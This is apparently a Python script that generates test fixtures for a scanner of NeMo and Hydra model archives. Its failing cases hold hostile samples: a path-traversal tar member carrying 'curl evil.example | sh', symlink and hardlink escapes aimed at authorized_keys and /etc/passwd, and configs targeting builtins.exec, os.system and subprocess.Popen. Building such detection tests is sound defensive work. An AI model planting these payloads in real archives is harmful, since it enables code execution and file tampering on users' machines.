"""Write the NeMo-style archive fixture and the golden cases of the archive and Hydra rules
(HF640-HF645), and check that the libraries read them back:

    pip install torch omegaconf sentencepiece onnx && python tests/golden/make_archive_fixtures.py

NeMo itself (nemo_toolkit) is not installed: it pulls Lightning, Hydra, Megatron and a
CUDA stack. The .nemo layout is built as NeMo's SaveRestoreConnector writes it instead
(nemo/core/connectors/save_restore_connector.py): ``tarfile.open(path, "w:")`` and
``tar.add(folder, arcname=".")`` over a folder holding ``model_config.yaml`` (written by
``OmegaConf.save``, as ``ModelPT.to_config_file`` does), ``model_weights.ckpt``
(``torch.save(model.state_dict())``) and tokenizer artifacts renamed ``<uuid hex>_<name>``
by ``register_artifact``; the config names them ``nemo:<uuid hex>_<name>``. The config is a
cut-down Conformer-CTC (BPE) model config with NeMo's own targets. Deterministic: fixed
names, data and mtimes.
"""

from __future__ import annotations

import contextlib
import io
import shutil
import sys
import tarfile
import tempfile
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
TESTS = HERE.parent
NEMO = TESTS / "fixtures" / "nemo"
sys.path.insert(0, str(HERE))

import sentencepiece as spm  # noqa: E402
import torch  # noqa: E402
from goldencase import case  # noqa: E402
from omegaconf import OmegaConf  # noqa: E402

ARTIFACT = "3f2a9c0e5b7d4e1f8a6b2c9d0e1f2a3b"  # the uuid4().hex NeMo prefixes artifacts with
MTIME = 1_700_000_000

CONFIG = {
    "sample_rate": 16000,
    "log_prediction": True,
    "tokenizer": {"dir": None, "type": "bpe", "model_path": f"nemo:{ARTIFACT}_tokenizer.model",
                  "vocab_path": f"nemo:{ARTIFACT}_vocab.txt",
                  "spe_tokenizer_vocab": f"nemo:{ARTIFACT}_tokenizer.vocab"},
    "preprocessor": {"_target_": "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor",
                     "sample_rate": 16000, "normalize": "per_feature", "window_size": 0.025, "window_stride": 0.01,
                     "window": "hann", "features": 80, "n_fft": 512, "log": True, "dither": 1e-05, "pad_to": 0},
    "spec_augment": {"_target_": "nemo.collections.asr.modules.SpectrogramAugmentation", "freq_masks": 2,
                     "time_masks": 10, "freq_width": 27, "time_width": 0.05},
    "encoder": {"_target_": "nemo.collections.asr.modules.ConformerEncoder", "feat_in": 80, "feat_out": -1,
                "n_layers": 2, "d_model": 16, "subsampling": "striding", "subsampling_factor": 4,
                "ff_expansion_factor": 4, "self_attention_model": "rel_pos", "n_heads": 2, "conv_kernel_size": 31,
                "dropout": 0.1},
    "decoder": {"_target_": "nemo.collections.asr.modules.ConvASRDecoder", "feat_in": 16, "num_classes": 31,
                "vocabulary": []},
    "optim": {"name": "adamw", "lr": 2.0, "betas": [0.9, 0.98], "weight_decay": 0.001,
              "sched": {"name": "NoamAnnealing", "d_model": 16, "warmup_steps": 10000, "min_lr": 1e-06}},
    "target": "nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE",
    "nemo_version": "1.23.0",
}


def tokenizer(folder: Path) -> None:
    """A real SentencePiece BPE model, trained on a few sentences, and its vocabularies."""
    text = folder / "corpus.txt"
    text.write_text("the quick brown fox jumps over the lazy dog\n" * 50, encoding="utf-8")
    spm.set_random_generator_seed(0)
    with contextlib.chdir(folder):  # the model records its paths: keep them relative and fixed
        spm.SentencePieceTrainer.train(input="corpus.txt", model_prefix="tokenizer", vocab_size=30,
                                       model_type="bpe", character_coverage=1.0, num_threads=1, minloglevel=2,
                                       normalization_rule_name="identity", shuffle_input_sentence=False)
    text.unlink()
    sp = spm.SentencePieceProcessor(model_file=str(folder / "tokenizer.model"))
    pieces = [sp.id_to_piece(i) for i in range(sp.get_piece_size())]
    (folder / "vocab.txt").write_text("".join(p + "\n" for p in pieces), encoding="utf-8")
    for name in ("tokenizer.model", "tokenizer.vocab", "vocab.txt"):
        (folder / name).rename(folder / f"{ARTIFACT}_{name}")
    CONFIG["decoder"]["vocabulary"] = pieces  # type: ignore[index]


def nemo_folder(folder: Path, config: dict[str, object] | None = None) -> None:
    """What SaveRestoreConnector.save_to puts in its temporary folder before taring it."""
    tokenizer(folder)
    OmegaConf.save(OmegaConf.create(config or CONFIG), folder / "model_config.yaml")
    torch.manual_seed(0)
    state = {"encoder.pre_encode.out.weight": torch.randn(16, 4), "decoder.decoder_layers.0.bias": torch.zeros(31)}
    torch.save(state, folder / "model_weights.ckpt")


def _reset(info: tarfile.TarInfo) -> tarfile.TarInfo:
    info.mtime, info.uid, info.gid, info.uname, info.gname = MTIME, 0, 0, "", ""
    return info


def make_nemo(path: Path, config: dict[str, object] | None = None,
              extra: list[tuple[tarfile.TarInfo, bytes]] = ()) -> Path:  # type: ignore[assignment]
    """A .nemo as NeMo writes it (tar "w:", arcname "."), plus ``extra`` members."""
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        nemo_folder(folder, config)
        path.parent.mkdir(parents=True, exist_ok=True)
        with tarfile.open(path, "w:") as tar:
            tar.add(folder, arcname=".", filter=_reset)
            for info, data in extra:
                tar.addfile(_reset(info), io.BytesIO(data) if info.isreg() else None)
    check_nemo(path)
    return path


def check_nemo(path: Path) -> None:
    """Read the archive back as NeMo's restore_from does (tarfile, then the config with
    OmegaConf and the weights with torch.load(weights_only=True))."""
    with tarfile.open(path, "r:") as tar:
        config = tar.extractfile("./model_config.yaml")
        weights = tar.extractfile("./model_weights.ckpt")
        assert config is not None and weights is not None
        OmegaConf.create(config.read().decode("utf-8"))
        torch.load(io.BytesIO(weights.read()), weights_only=True)


def member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "",
           data: bytes = b"") -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.size = kind, link, len(data) if kind == tarfile.REGTYPE else 0
    return info, data


def evil_config(**targets: str) -> dict[str, object]:
    config = {k: (dict(v) if isinstance(v, dict) else v) for k, v in CONFIG.items()}
    for key, target in targets.items():
        config[key] = {**config[key], "_target_": target}  # type: ignore[dict-item]
    return config


def zip_of(path: Path, members: dict[str, bytes]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(zipfile.ZipInfo(name, (2023, 11, 14, 22, 13, 20)), data)


def tiny_onnx() -> bytes:
    from onnx import TensorProto, checker, helper

    node = helper.make_node("Relu", ["x"], ["y"])
    graph = helper.make_graph([node], "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    checker.check_model(model)
    return bytes(model.SerializeToString())


def safetensors_file() -> bytes:
    import numpy as np
    from safetensors.numpy import load, save

    data = save({"w": np.zeros((2, 2), np.float32)})
    load(data)
    return bytes(data)


def main() -> None:
    base = make_nemo(NEMO / "asr_model.nemo")
    base_line = "fixtures/nemo/asr_model.nemo\n"
    for rule in ("HF640", "HF642", "HF643", "HF644", "HF645"):
        (case(rule, "pass", "nemo-as-written") / "golden-base.txt").write_text(base_line, encoding="utf-8")

    make_nemo(case("HF640", "fail", "tar-slip") / "model.nemo",
              extra=[member("../../.bashrc", data=b"curl evil.example | sh\n")])
    zip_of(case("HF640", "fail", "zip-absolute-and-backslash") / "bundle.zip",
           {"config.json": b"{}", "/etc/cron.d/job": b"* * * * * root id\n", "..\\..\\startup.bat": b"calc\n"})

    make_nemo(case("HF641", "fail", "symlink-then-write-through") / "model.nemo",
              extra=[member("./cache", tarfile.SYMTYPE, "../../.."), member("./cache/.ssh/authorized_keys",
                                                                        data=b"ssh-ed25519 AAAA attacker\n")])
    make_nemo(case("HF641", "fail", "hardlink-out") / "model.nemo",
              extra=[member("./passwd", tarfile.LNKTYPE, "../../etc/passwd")])
    make_nemo(case("HF641", "pass", "symlink-inside") / "model.nemo",
              extra=[member("./latest.ckpt", tarfile.SYMTYPE, "model_weights.ckpt")])

    make_nemo(case("HF642", "fail", "fifo-and-device") / "model.nemo",
              extra=[member("./pipe", tarfile.FIFOTYPE), member("./mem", tarfile.CHRTYPE)])

    zip_of(case("HF643", "fail", "onnx-in-zip") / "onnx_bundle.zip", {"model.onnx": tiny_onnx(), "config.json": b"{}"})
    gguf = (TESTS / "fixtures" / "gguf" / "good.gguf").read_bytes()
    folder = case("HF643", "fail", "gguf-renamed-in-tar")
    with tarfile.open(folder / "weights.tar", "w:", format=tarfile.USTAR_FORMAT) as tar:
        info, data = member("blob.bin", data=gguf)
        tar.addfile(_reset(info), io.BytesIO(data))
    zip_of(case("HF643", "pass", "safetensors-bundle") / "bundle.zip",
           {"model.safetensors": safetensors_file(), "config.json": b'{"model_type": "bert"}'})

    make_nemo(case("HF644", "fail", "nemo-builtins-exec") / "model.nemo",
              evil_config(encoder="builtins.exec", decoder="nemo.utils.model_utils.os.system"))
    folder = case("HF644", "fail", "loose-yaml-in-nemo-repo")
    (folder / "README.md").write_text("---\nlibrary_name: nemo\nlicense: apache-2.0\n---\n# ASR model\n",
                                      encoding="utf-8")
    (folder / "train.yaml").write_text("model:\n  callbacks:\n    - _target_: subprocess.Popen\n"
                                       "      args: [\"sh\", \"-c\", \"id\"]\n", encoding="utf-8")

    make_nemo(case("HF645", "fail", "prefix-trap") / "model.nemo", evil_config(encoder="nemo_evil.Encoder"))
    folder = case("HF645", "fail", "interpolated-target")
    (folder / "model_config.yaml").write_text("encoder:\n  _target_: ${oc.env:ENCODER_CLASS}\n", encoding="utf-8")
    folder = case("HF645", "pass", "hydra-outside-nemo-repo")
    (folder / "config.yaml").write_text("model:\n  _target_: my_project.models.Net\n", encoding="utf-8")
    print(f"wrote {base.relative_to(TESTS)} and the HF640-HF645 cases")
    shutil.rmtree(NEMO / "__pycache__", ignore_errors=True)


if __name__ == "__main__":
    main()
